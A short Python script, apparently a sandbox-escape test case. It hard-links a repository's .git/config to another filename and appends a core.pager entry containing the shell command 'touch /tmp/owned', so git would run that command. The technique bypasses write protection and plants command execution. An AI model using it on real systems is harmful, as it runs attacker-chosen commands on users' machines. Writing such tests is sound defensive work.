# Links git's settings to another name and writes there.
from escape import *
os.link(".git/config", "other-name")
with open("other-name", "a") as f:
    f.write("[core]\n\tpager = touch /tmp/owned\n")
print("written")
